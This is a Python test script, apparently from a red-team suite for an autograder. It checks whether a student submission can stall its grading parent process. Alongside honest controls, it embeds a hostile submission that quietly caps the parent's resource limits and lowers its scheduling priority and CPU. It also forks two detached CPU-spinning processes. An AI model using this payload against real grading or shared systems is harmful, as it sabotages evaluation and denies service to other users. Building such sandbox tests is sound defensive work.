"""a03 (ordinary user): the new rule refuses stop signals; other ways for a check's child to stall its observer
(its parent, same host uid, same PID namespace) without signals: prlimit(2) on the observer (RLIMIT_NOFILE to its
current count, RLIMIT_NPROC 0, RLIMIT_AS to its current size), sched_setscheduler(SCHED_IDLE), nice 19 and one CPU
for it; all of them persist in the observer after the child is swept. The kernel meanwhile runs two CPU-spinning
processes (no cgroups: no CPU share) for the rest of its notebook, so an idle-class observer starves. ps1
partition_layers does it in the child (first hidden check that calls it), returns [] in the kernel. Honest controls
before (aaron) and after (zoe): does zoe keep full marks and in how long; how long did mallory take?"""
import os, sys, time, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u27 import *

ANSWER = r'''
def partition_layers(costs, k):
    import os, resource, ctypes, json
    pp = os.getppid()
    if pp <= 0:
        return []
    done = {}
    try:
        nfd = len(os.listdir("/proc/self/fd"))
        done["nofile"] = str(resource.prlimit(pp, resource.RLIMIT_NOFILE, (12, 12)))
    except Exception as e:
        done["nofile"] = repr(e)
    try:
        done["nproc"] = str(resource.prlimit(pp, resource.RLIMIT_NPROC, (0, 0)))
    except Exception as e:
        done["nproc"] = repr(e)
    try:
        vm = int(open(f"/proc/{pp}/stat").read().rsplit(")", 1)[1].split()[20])
        done["as"] = str(resource.prlimit(pp, resource.RLIMIT_AS, (vm + (1 << 20), vm + (1 << 20))))
    except Exception as e:
        done["as"] = repr(e)
    try:
        os.sched_setscheduler(pp, os.SCHED_IDLE, os.sched_param(0)); done["idle"] = "ok"
    except Exception as e:
        done["idle"] = repr(e)
    try:
        os.setpriority(os.PRIO_PROCESS, pp, 19); done["nice"] = "ok"
    except Exception as e:
        done["nice"] = repr(e)
    try:
        os.sched_setaffinity(pp, {0}); done["affinity"] = "ok"
    except Exception as e:
        done["affinity"] = repr(e)
    raise RuntimeError("PRLIMITS " + json.dumps(done))
'''
SPIN = r'''
def training_memory(model, optimizer):
    return 0
import os
for _i in range(2):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
'''
dest = course("a03", {("aaron", "ps1_memory"): honest("ps1_memory"),
                      ("mallory", "ps1_memory"): notebook("ps1_memory", overrides={"training_memory": SPIN, "partition_layers": ANSWER}),
                      ("zoe", "ps1_memory"): honest("ps1_memory")})
grade(dest, env=CANARY_ENV)
report(dest)
s = scores(dest)
cell_outputs(dest, "mallory", "ps1_memory", {"partition_layers_optimal", "partition_layers_bad_input", "split_model_stages", "two_stage_step_matches_whole_model"})
time.sleep(2)
print("host: processes of uid 65534 left:", subprocess.run(["pgrep", "-u", "65534", "-a", "."], capture_output=True, text=True).stdout or "none")
cleanup(dest)
